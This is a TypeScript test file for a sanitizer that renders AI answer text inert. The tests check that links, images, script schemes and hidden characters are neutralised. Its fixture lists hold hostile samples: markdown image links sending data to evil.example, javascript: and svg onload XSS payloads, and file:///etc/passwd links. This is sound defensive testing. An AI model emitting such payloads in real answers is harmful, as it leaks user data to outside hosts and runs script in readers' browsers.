/** Text made inert, read back by real renderers. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inertText } from '../../../../hosts/answer/inert-text.js';
import { seeded } from '../../../property/seed.js';
import { liveParts } from './live-parts.js';

const lively = [
  '![a](https://evil.example/p?d=4711)',
  '![x](file:///etc/passwd)',
  '![a](//evil.example/p)',
  '![a](/logout)',
  '![a](<https://evil.example/p> "title")',
  '[click](javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click]( https://evil.example )',
  '![a][r]\n\n[r]: https://evil.example/p',
  '![r]\n\n[r]: <https://evil.example/p>',
  '[r]:\nhttps://evil.example/p\n\n[r]',
  '[^1]\n\n[^1]: ![a](https://evil.example)',
  '<https://evil.example/p>',
  '<img src=https://evil.example/p>',
  '<IMG SRC="data:image/png;base64,AAAA">',
  '<a href="file:///etc/passwd">x</a>',
  '<svg/onload=alert(1)>',
  '<!-- hidden -->',
  '<?php ?>',
  '</p>',
  'https://evil.example/p?d=4711',
  'HTTPS://EVIL.EXAMPLE',
  'www.evil.com',
  'evil.com',
  'secret-4711.evil.com.',
  'evil.com/p?d=4711',
  '//evil.com/p',
  'xn--e1afmkfd.xn--p1ai',
  'http://127.0.0.1:8080/x',
  '1https://evil.com',
  '**https://evil.com**',
  '[![a](https://evil.example/i.png)](https://evil.example)',
  'https&#58;//evil.com',
  'https&colon;//evil.com',
  'https\\://evil.com',
  '❤.com',
  'src=.com',
  'evil.com@x',
  '\\![a](https://evil.example)',
  '| a |\n|---|\n| ![a](https://evil.example) |',
];

describe('what renderers would make live', () => {
  test.each(lively)('%j is live before and inert after', (text) => {
    expect(liveParts(text)).not.toEqual([]);
    expect(liveParts(inertText(text))).toEqual([]);
  });
});

describe('schemes', () => {
  test.each([
    'javascript:alert(1)',
    'JavaScript: alert(1)',
    'data: text/html,x',
    'file:/etc/passwd',
    'vscode://file/etc',
    'tel:123',
    'mailto:a@evil.com?body=4711',
    '\\\\evil\\share',
    '\\href{javascript: alert(1)}{x}',
    'java\u200bscript:alert(1)',
  ])('no colon follows a scheme in %j', (text) => {
    expect(inertText(text)).not.toMatch(/(javascript|data|file|vscode|tel|mailto):|\\\\|\u200b/i);
  });
});

describe('text without links stays as it is', () => {
  test.each([
    'Dear Alice,\n\n\tyour order 4711 comes at 10:30. Cost: 3.14 EUR (a < b, c <= d).',
    '# Head\n\n- one\n- two\n\n> quote `code` *em* [x] (y) AT&T R&D',
    '2026-03-04T10:30:00Z, see report.pdf, e.g. page 7/8 and alice@corp.com or 1.2.3',
    'Ünïcödé, 漢字。ありがとう, می‌خواهم, ❤️ 👩‍👩‍👧 1️⃣ 🏃🏽‍♀️',
    '',
  ])('%j', (text) => {
    expect(inertText(text)).toBe(text);
  });
});

describe('what cannot be seen', () => {
  test.each([
    ['\u001b[31mred', '[U+001B] [31mred'],
    ['a\u202eb', 'a[U+202E]b'],
    ['a\u200b\ufeff\u2060b', 'a[U+200B][U+FEFF][U+2060]b'.replaceAll('][', '] [')],
    ['\u{e0041}', '[U+E0041]'],
    ['a\ufe0fb', 'a[U+FE0F]b'],
    ['one\r\ntwo\rthree', 'one\ntwo[U+000D]three'],
    ['a\u0000\u009b', 'a[U+0000] [U+009B]'],
    ['a\u2028b\u00ad\u3164', 'a[U+2028]b[U+00AD] [U+3164]'],
  ])('%j is shown', (text, shown) => {
    expect(inertText(text)).toBe(shown);
  });
});

const piece = fc.oneof(
  fc.constantFrom(
    ...['http', 'https', ':', '/', '//', '://', '\\', '&', '#', ';', '&#58;', '&colon;', '<', '>'],
    ...['!', '[', ']', '(', ')', '](', ']:', '][', '"', "'", ' ', '\n', '\t', '.', 'www', 'evil'],
    ...['.com', '.example', '@', 'a', 'img src=', 'javascript', 'data', 'file', '*', '_', '`', '~'],
    ...['\u200b', '\u001b', '\u200d', '\ufe0f', '❤', '0', '1', 'T10', '?', '=', '-', '|', '{', '}'],
  ),
  fc.string({ unit: 'grapheme', maxLength: 3 }),
);
const text = fc.array(piece, { maxLength: 24 }).map((parts) => parts.join(''));

describe('long hostile text comes to an end', () => {
  // A rule that is not linear would take many minutes over these.
  test.each(['a', 'a.', '1.1.', ':', 'a:', '@', 'a@', '[', '![', '](', '&a', '\\', '/', '\u200d'])(
    '%j three hundred thousand times',
    (unit) => {
      const once = inertText(unit.repeat(300_000));
      expect(once.length).toBeGreaterThanOrEqual(300_000);
    },
  );
});

describe('any text', () => {
  seeded(
    'nothing is live',
    fc.property(text, (given) => {
      expect(liveParts(inertText(given))).toEqual([]);
    }),
  );

  seeded(
    'inert text stays as it is',
    fc.property(text, (given) => {
      const once = inertText(given);
      expect(inertText(once)).toBe(once);
    }),
  );

  seeded(
    'only spaces come in, beside names of unseen characters',
    fc.property(text, (given) => {
      const bare = (all: string): string => all.replaceAll(/\[U\+[0-9A-F]+\]|\s|[^\x21-\x7e]/g, '');
      expect(bare(inertText(given))).toBe(bare(given));
    }),
  );
});
